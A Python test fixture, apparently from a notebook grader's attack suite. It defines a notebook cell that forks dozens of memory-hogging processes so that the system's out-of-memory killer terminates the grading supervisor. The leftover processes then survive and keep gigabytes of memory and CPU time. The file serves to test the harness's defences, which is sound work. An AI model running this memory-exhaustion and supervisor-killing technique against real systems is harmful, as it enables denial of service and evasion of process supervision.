"""The notebook becomes a small process, lets many others fill the memory, and makes the system's killer choose one
that is not the learner's.

The killer takes the largest process of the group, and a supervisor that was forked from a warm parent looks larger
than each of the learner's. When it dies, nobody ends the rest: they keep three gigabytes and their processor time.
Here the rest ends with whoever attends it, however that one ended.
"""

from tests.grading.attacks import Attack, answers, inside

# A hundred megabytes each; the last come page by page, until a write to the attendant's pipe says that it is gone.
HOLD = "import time; held = b'x' * (100 << 20); time.sleep(300)"
FILL = """
import mmap, os, time

room = mmap.mmap(-1, 90 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
for page in range(0, 90 << 20, 4096):
    room[page] = 1
    time.sleep(0.0002)  # one that is being killed needs a moment, in which nothing may be wanting
    try:
        os.write(2, b".")
    except OSError:
        break
print("full", flush=True)
time.sleep(300)
"""
BECOME = f"""
import os, signal, subprocess, sys, time

signal.signal(signal.SIGINT, signal.SIG_IGN)
python = [sys.executable, "-S", "-E", "-c"]
for _ in range(29):
    subprocess.Popen([*python, {HOLD!r}], stderr=subprocess.DEVNULL)
    time.sleep(0.05)
time.sleep(4)
for _ in range(10):
    subprocess.Popen([*python, {FILL!r}], stdout=subprocess.PIPE).stdout.readline()
    try:
        os.write(2, b".")
    except OSError:
        break
time.sleep(300)
"""
CELL = f"BECOME = {BECOME!r}\n" + inside("""
    import sys

    os.execv(sys.executable, [sys.executable, "-S", "-E", "-c", BECOME])
""")
ATTACK = Attack(cells=answers(), extra=[("week1-log_softmax-check", CELL)])
